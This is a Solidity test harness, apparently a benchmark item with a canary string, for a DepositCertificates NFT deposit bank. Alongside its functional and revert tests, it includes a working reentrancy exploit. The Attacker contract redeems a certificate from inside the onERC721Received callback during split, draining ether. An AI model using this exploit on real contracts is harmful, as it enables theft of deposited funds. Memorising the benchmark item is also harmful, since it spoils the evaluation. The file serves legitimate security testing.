pragma solidity 0.5.17;

import "./DepositCertificates.sol";

// assay-canary-baff1e52-15d5-476b-8dc7-5ee3a5c1906a

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Keeper {
    address private boss = msg.sender;
    bytes4 private answer;

    constructor(bytes4 _answer) public payable {
        answer = _answer;
    }

    function () external payable {}

    function run(DepositCertificates bank) external returns (uint256) {
        require(msg.sender == boss, "boss");
        uint256 id = bank.place.value(2 ether)();
        return bank.split(id, 1 ether);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        return answer;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    DepositCertificates private bank;
    Attacker private mallory;

    function setUp() public {
        bank = new DepositCertificates();
        bank.setRate(50);
        vm.deal(ANA, 100 ether);
        vm.deal(BEN, 100 ether);
        vm.prank(ANA);
        bank.place.value(30 ether)();
        mallory = new Attacker(bank);
        vm.deal(address(mallory), 10 ether);
    }

    function () external payable {}

    function test_Regular() public {
        vm.startPrank(ANA);
        uint256 part = bank.split(1, 10 ether);
        require(part == 2 && bank.worth(1) == 20 ether && bank.worth(2) == 10 ether);
        require(bank.ownerOf(2) == ANA && bank.balanceOf(ANA) == 2);
        bank.transferFrom(ANA, BEN, 2);
        bank.approve(CAT, 1);
        bank.setApprovalForAll(CAT, true);
        vm.stopPrank();
        require(bank.getApproved(1) == CAT && bank.isApprovedForAll(ANA, CAT));
        vm.prank(CAT);
        bank.safeTransferFrom(ANA, BEN, 1);
        vm.startPrank(BEN);
        bank.safeTransferFrom(BEN, BEN, 1, "x");
        bank.redeem(2);
        require(BEN.balance == 109.95 ether && bank.worth(2) == 0 && bank.collected() == 0.05 ether);
        uint256 third = bank.place.value(3 ether)();
        require(third == 3);
        bank.join(1, 3);
        require(bank.worth(1) == 23 ether && bank.worth(3) == 0 && bank.balanceOf(BEN) == 1);
        bank.redeem(1);
        vm.stopPrank();
        uint256 before = address(this).balance;
        bank.takeFees();
        require(address(this).balance == before + 0.165 ether && address(bank).balance == 0 && bank.collected() == 0);
        Keeper keeper = (new Keeper).value(2 ether)(bytes4(0x150b7a02));
        require(bank.ownerOf(keeper.run(bank)) == address(keeper));
        require(bank.supportsInterface(0x80ac58cd));
        bank.transferOwnership(CAT);
        vm.prank(CAT);
        bank.renounceOwnership();
        require(bank.owner() == address(0));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        bank.setRate(1);
        vm.expectRevert("Ownable: caller is not the owner");
        bank.takeFees();
        vm.expectRevert("not the holder");
        bank.split(1, 1 ether);
        vm.expectRevert("not the holder");
        bank.redeem(1);
        bank.place.value(1 ether)();
        vm.expectRevert("not the holder");
        bank.join(1, 2);
        vm.expectRevert("not the holder");
        bank.join(2, 1);
        vm.stopPrank();
    }

    function test_RefusesRates() public {
        vm.expectRevert("rate too high");
        bank.setRate(101);
    }

    function test_RefusesSmallOnes() public {
        vm.startPrank(ANA);
        vm.expectRevert("too small");
        bank.place.value(1 finney - 1)();
        vm.expectRevert("too small");
        bank.split(1, 1 finney - 1);
        vm.expectRevert("too small");
        bank.split(1, 30 ether - 1);
        vm.expectRevert("worth less");
        bank.split(1, 30 ether + 1);
        vm.expectRevert("same certificate");
        bank.join(1, 1);
        vm.stopPrank();
    }

    function test_RefusesReceivers() public {
        Keeper keeper = (new Keeper).value(2 ether)(bytes4(0x01020304));
        vm.expectRevert("ERC721: transfer to non ERC721Receiver implementer");
        keeper.run(bank);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 35 ether);
    }

    function target() public view returns (address) {
        return address(bank);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    DepositCertificates private bank;
    uint256 private old;

    constructor(DepositCertificates _bank) public {
        bank = _bank;
    }

    function () external payable {}

    function run() external {
        for (uint256 i = 0; i < 3; i++) {
            old = bank.place.value(10 ether - 0.1 ether)();
            uint256 part = bank.split(old, 9.8 ether);
            bank.redeem(part);
        }
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        require(msg.sender == address(bank));
        bank.redeem(old);
        return 0x150b7a02;
    }
}
